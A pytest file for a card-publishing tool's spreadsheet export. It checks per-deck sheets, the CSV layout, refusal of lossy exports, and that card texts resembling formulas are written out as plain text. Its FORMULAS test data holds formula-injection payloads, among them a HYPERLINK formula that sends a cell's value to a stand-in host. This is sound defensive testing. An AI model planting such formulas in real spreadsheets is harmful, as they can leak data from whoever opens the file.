"""`publish cards --format csv|xlsx|ods`: every card one row, every key a column, and an
export that would lose anything refused."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from conftest import declare, give, run
from publish.app.sheets.table import card_sheets
from publish.model.load import load_config

FIELDS = """\
fields:
  cost: {type: integer, min: 0, max: 9, default: 0}
  keywords: {type: tags}
  art: {type: image}
"""


def test_a_workbook_has_a_sheet_per_deck_and_a_card_in_two_decks_is_one_row(demo, tmp_path):
    declare(demo, FIELDS)
    give(demo, "Primeira", "cost: 3\nkeywords: [fast]")
    out = tmp_path / "cards.xlsx"
    result = run("cards", "--project", str(demo), "--format", "xlsx", "--output", str(out))
    assert result.output == f"{out}: 6 cards of demo, a sheet per deck (2)\n"
    book = load_workbook(out)
    assert book.sheetnames == ["alpha", "beta"]
    alpha = [[cell.value for cell in row] for row in book["alpha"].iter_rows()]
    header = alpha[0]
    assert header[:8] == ["number", "name", "kind", "ideology", "tags", "cost", "keywords",
                          "art"]
    assert [row[0] for row in alpha[1:]] == ["001", "002", "003", "998"]
    first = dict(zip(header, alpha[1], strict=True))
    assert (first["cost"], first["keywords"], first["copies alpha"]) == (3, "fast", 1)
    assert isinstance(first["cost"], int) and first["number"] == "001"
    natural = dict(zip(header, alpha[4], strict=True))
    assert (natural["copies alpha"], natural["copies beta"]) == (2, 1)
    assert [row[0].value for row in book["beta"].iter_rows(min_row=2)] == ["004", "005"]


def test_the_csv_is_the_table_with_a_deck_column(demo):
    out = run("cards", "--project", str(demo), "--format", "csv").output
    table = card_sheets(demo / "cards" / "demo", load_config(demo / "cards" / "demo")[0],
                        csv=True)[0].rows
    assert list(csv.reader(io.StringIO(out))) == [["" if v is None else str(v) for v in row]
                                                  for row in table]
    assert table[0][0] == "deck" and [row[0] for row in table[1:]] == ["alpha"] * 4 + ["beta"] * 2


def test_an_export_that_would_not_read_back_the_same_is_refused(demo, tmp_path):
    declare(demo, FIELDS)
    give(demo, "Primeira", "keywords: ['fast, slow']")
    result = run("cards", "--project", str(demo), "--format", "ods", "-o",
                 str(tmp_path / "x.ods"))
    assert result.exit_code == 1
    assert "cannot export without losing something: card 001: keywords would not read back " \
           "the same" in result.output
    assert not (tmp_path / "x.ods").exists()


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_a_workbook_needs_a_file_to_go_to(demo, fmt):
    result = run("cards", "--project", str(demo), "--format", fmt)
    assert result.exit_code == 2
    assert f"give --output FILE (say, cards.{fmt})" in result.output


FORMULAS = {("001", "name"): '=HYPERLINK("http://example.invalid/?"&A1, "click")',
            ("001", "notes"): "=1+1", ("002", "text"): "+1+2 stars",
            ("002", "flavour"): "#N/A", ("050", "flavour"): "@SUM(A1)",
            ("050", "notes"): "\tcmd", ("080", "notes"): "-2+3", ("080", "flavour"): "'=kept"}
"""Card texts a spreadsheet program would take for formulas (or an error), by card and key."""


def with_formulas(project: Path) -> None:
    """The moon game's main deck with FORMULAS for texts (each key set or added)."""
    deck = project / "cards" / "moon" / "decks" / "main.yaml"
    text = deck.read_text(encoding="utf-8")
    for (number, key), value in FORMULAS.items():
        start = text.index(f'  - number: "{number}"\n')
        end = text.find("\n  - number:", start + 1) % (len(text) + 1)
        entry = text[start:end]
        line = f"    {key}: {json.dumps(value)}"
        entry = re.sub(rf"(?m)^    {key}: .*$", line, entry) if f"\n    {key}:" in entry \
            else entry.rstrip("\n") + "\n" + line + ("\n" if entry.endswith("\n") else "")
        text = text[:start] + entry + text[end:]
    deck.write_text(text, encoding="utf-8")


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_texts_that_look_like_formulas_are_exported_as_text_and_come_back(moon, tmp_path, fmt):
    with_formulas(moon)
    assert run("check", "--project", str(moon)).exit_code == 0
    sheet = tmp_path / f"cards.{fmt}"
    exported = run("cards", "--project", str(moon), "--format", fmt, "-o", str(sheet))
    assert exported.exit_code == 0, exported.output
    cells = written_cells(sheet, fmt)
    for value in FORMULAS.values():
        assert cells[value] == "text", (value, cells)
    result = run("import", "--project", str(moon), str(sheet))
    assert result.output == f"{sheet}: no changes: every card is as the deck files have it\n"


def written_cells(sheet: Path, fmt: str) -> dict[str, str]:
    """Each text as a spreadsheet program would take its cell: "text" or "formula"."""
    if fmt == "csv":  # a cell starting with = + - @ tab or CR is a formula to Excel and Calc
        rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")))
        return {cell.removeprefix("'"): "formula" if cell[:1] in "=+-@\t\r" else "text"
                for row in rows for cell in row if cell}
    if fmt == "xlsx":
        book = load_workbook(sheet)
        return {cell.value: {"s": "text", "f": "formula"}.get(cell.data_type, cell.data_type)
                for ws in book.worksheets for row in ws.iter_rows() for cell in row
                if isinstance(cell.value, str)}
    content = ElementTree.fromstring(zipfile.ZipFile(sheet).read("content.xml"))
    found = {}
    for cell in content.iter(f"{TABLE}table-cell"):
        text = "\n".join(spelt(p) for p in cell.iter(f"{TEXT}p"))
        kind = cell.get(f"{OFFICE}value-type")
        found[text] = "formula" if f"{TABLE}formula" in cell.attrib else \
            "text" if kind == "string" else str(kind)
    return found


def spelt(element: ElementTree.Element) -> str:
    """A paragraph's text, its tabs and runs of spaces spelt out."""
    text = element.text or ""
    for child in element:
        text += {f"{TEXT}tab": "\t", f"{TEXT}s": " " * int(child.get(f"{TEXT}c", "1"))
                 }.get(child.tag, "") or spelt(child)
        text += child.tail or ""
    return text


TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
